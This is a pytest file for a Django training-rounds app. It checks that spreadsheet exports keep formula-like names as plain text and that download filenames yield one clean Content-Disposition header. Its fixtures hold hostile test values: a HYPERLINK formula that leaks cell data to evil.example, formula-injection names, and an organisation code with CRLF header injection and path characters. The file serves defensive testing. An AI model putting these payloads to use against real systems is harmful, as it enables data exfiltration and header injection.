"""The rounds' downloads (coverage, study hours, the calendar feed) are safe to open: names and
titles typed as formulas stay text, and a name typed with CR/LF, quotes, "/" or control
characters still gives one clean Content-Disposition header."""

import io
import re
from decimal import Decimal
from urllib.parse import unquote

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core.downloads import XLSX, safe_filename
from rounds.models import CalendarFeed
from tests.members.spreadsheets import assert_no_formulas

from . import builders

# attachment; filename="<printable ASCII, no quote>"; filename*=UTF-8''<RFC 5987 attr-chars>
HEADER = re.compile(
    r"(?P<kind>attachment|inline); filename=\"(?P<fallback>[\x20\x21\x23-\x7e]+)\"; "
    r"filename\*=UTF-8''(?P<encoded>[A-Za-z0-9%._~-]+)"
)
ROUND_TITLE = '=HYPERLINK("http://evil.example/?q="&A3,"点击查看")'
ORG_NAME = "=1+1\r\n@支部\t二"
MEMBER_NAME = "-2+3"
# An organisation code from before codes were checked: a header splitter, quotes, a path, a
# control character and Chinese.
ORG_CODE = 'B2\r\nX-Injected: 1; "q"/..\\\x01市'


def disposition(response):
    match = HEADER.fullmatch(response["Content-Disposition"])
    assert match, response["Content-Disposition"]
    return match["kind"], match["fallback"], unquote(match["encoded"])


def text_cells(content):
    return {c.text for c in assert_no_formulas(content) if c.text is not None}


@pytest.fixture
def hostile(city):
    """A round, a branch and a member whose names were typed to become formulas."""
    branch = builders.factories.org(ORG_NAME, city.county_a, code=ORG_CODE)
    member = builders.factories.member(branch, name=MEMBER_NAME)
    parent = builders.course_builders.course(title="学习党章")
    lesson = builders.course_builders.lesson(parent, title="第一课", hours=Decimal("1.5"))
    training_round = builders.training_round([city.root], [lesson], title=ROUND_TITLE)
    builders.complete_online(member, lesson)
    return training_round, branch, member


def test_coverage_export_writes_hostile_names_as_text(city, hostile, client_for):
    training_round, _branch, _member = hostile
    response = client_for(city.trainer).get(
        reverse("rounds:coverage_export", args=[training_round.pk]),
        {"org": city.county_a.pk, "status": "all"},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    texts = text_cells(response.content)
    assert {ROUND_TITLE, ORG_NAME, MEMBER_NAME, ORG_CODE.replace("\x01", "")} <= texts
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.worksheets[0]["A1"].value == ROUND_TITLE
    names = list(workbook.worksheets[1].values)
    assert (MEMBER_NAME, ORG_NAME) in {(row[0], row[2]) for row in names}


def test_coverage_export_of_a_hostile_organisation_code_has_one_clean_header(
    city, hostile, client_for
):
    training_round, branch, _member = hostile
    response = client_for(city.trainer).get(
        reverse("rounds:coverage_export", args=[training_round.pk]), {"org": branch.pk}
    )
    assert response.status_code == 200
    kind, fallback, name = disposition(response)
    assert kind == "attachment"
    assert name == safe_filename(name)
    assert re.fullmatch(
        rf"coverage-{training_round.pk}-B2 X-Injected_ 1; _q_.._市-\d{{8}}-\d{{4}}\.xlsx", name
    )
    assert re.fullmatch(
        rf"coverage-{training_round.pk}-B2 X-Injected_ 1_ _q_..__-\d{{8}}-\d{{4}}\.xlsx", fallback
    )
    assert not any(header.lower().startswith("x-injected") for header in response.headers)


def test_study_hours_export_writes_hostile_names_as_text(city, hostile, client_for):
    with time_machine.travel(builders.aware(2026, 12, 10, 10, 0), tick=False):
        response = client_for(city.trainer).get(reverse("rounds:ledger_org_export"))
    assert response.status_code == 200
    assert {MEMBER_NAME, ORG_NAME} <= text_cells(response.content)
    rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].values)
    row = next(r for r in rows if r[0] == MEMBER_NAME)
    assert row[2] == ORG_NAME and row[4] == 1.5
    kind, fallback, name = disposition(response)
    assert kind == "attachment" and fallback == name
    assert re.fullmatch(r"study-hours-2026-20261210-\d{4}\.xlsx", name)


def test_calendar_feed_is_named_inline(city, client_for):
    token = CalendarFeed.objects.create(member=city.member_a).token
    response = Client().get(reverse("rounds:ical_feed", args=[token]))
    assert response.status_code == 200
    assert disposition(response) == ("inline", "lunxun.ics", "lunxun.ics")
